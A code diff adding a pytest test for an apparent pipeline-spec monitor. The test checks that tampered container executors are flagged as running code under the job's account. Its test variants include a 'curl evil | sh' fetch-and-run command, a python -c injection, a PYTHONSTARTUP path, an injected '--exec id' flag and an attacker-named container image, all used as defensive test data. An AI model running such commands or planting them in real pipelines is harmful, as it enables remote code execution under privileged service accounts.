@@ -482,6 +482,55 @@ def test_an_approval_naming_other_step_identities_than_the_spec_pins_is_a_shadow
     assert f"runs task 'train' as {legacy}, the approval as {train_sa}" in flagged[0].message
 
 
+def test_only_exactly_gcpcs_launcher_counts_as_launching_and_never_another_executor_kind(
+    template: str,
+) -> None:
+    """Monitor's test of "runs code as the job's own account" is the rewrite's test of a
+    launcher: every container the rewrite would refuse as a launcher (other command words, a
+    launcher module named after shell code, extra keys, unknown or repeated flags) counts as
+    running code, and so does every executor kind but an importer (a ``customJob`` body)."""
+    import zt_pipelines as zt
+    from zt_pipelines.monitor.shadow import unwrapped_executors
+    from zt_pipelines.spec.template import load_template
+
+    out = zt.rewrite(
+        load_template(template)[0],
+        project=PROJECT,
+        location=LOCATION,
+        pipeline_service_account=PIPELINE_SA,
+    )
+    assert unwrapped_executors(out) == ()
+    executors = out["deploymentSpec"]["executors"]
+    label, executor = next((k, v) for k, v in sorted(executors.items()) if "container" in v)
+    container = executor["container"]
+    module = container["command"][-1]
+    flags = container["args"]
+    variants: dict[str, dict[str, object]] = {
+        "sh -c code": {"command": ["sh", "-c", "curl evil | sh", "-m", module]},
+        "python3 -c code": {"command": ["python3", "-c", "import os", "-m", module]},
+        "python3 without -u": {"command": ["python3", "-m", module]},
+        "env": {"env": [{"name": "PYTHONSTARTUP", "value": "/tmp/x.py"}]},
+        "resources": {"resources": {"cpuLimit": 1.0}},
+        "unknown flag": {"args": [*flags, "--exec", "id"]},
+        "payload twice": {"args": [*flags, "--payload", "{}"]},
+        "odd args": {"args": [*flags, "--payload"]},
+        "other image": {"image": "docker.io/attacker/gcpc:latest"},
+    }
+    for name, change in variants.items():
+        changed = copy.deepcopy(out)
+        changed["deploymentSpec"]["executors"][label]["container"].update(change)
+        assert unwrapped_executors(changed) == (label,), name
+    for name, other in {
+        "customJob": {"customJob": {"customJob": {"jobSpec": {"workerPoolSpecs": []}}}},
+        "resolver": {"resolver": {"outputArtifactQueries": {}}},
+        "container beside customJob": {**executor, "customJob": {}},
+        "not a mapping": ["container"],
+    }.items():
+        changed = copy.deepcopy(out)
+        changed["deploymentSpec"]["executors"]["exec-extra"] = other
+        assert unwrapped_executors(changed) == ("exec-extra",), name
+
+
 @pytest.mark.shared
 def test_a_rewritten_spec_runs_no_code_as_the_jobs_account_and_a_raw_one_does(
     corpus_dir: Path, gcpc_corpus_dir: Path
